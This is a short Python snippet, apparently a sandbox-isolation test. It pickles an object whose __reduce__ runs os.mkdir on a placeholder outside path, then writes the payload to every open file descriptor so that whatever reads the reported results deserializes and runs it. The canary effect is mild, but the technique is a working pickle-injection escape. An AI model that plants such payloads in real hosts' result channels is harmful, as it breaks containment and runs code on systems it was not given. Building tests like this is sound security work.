# An object that runs code where it is read.
# page: L206 this snippet writes where its results are reported
# notebook: L503 this cell writes where its outputs are reported
import os, pickle, struct


class Hostile:
    def __reduce__(self):
        return os.mkdir, ('{OUTSIDE}/left',)


data = pickle.dumps(Hostile())
for number in range(3, 64):
    try:
        os.write(number, struct.pack('!i', len(data)) + data + b'\n')
    except OSError:
        pass
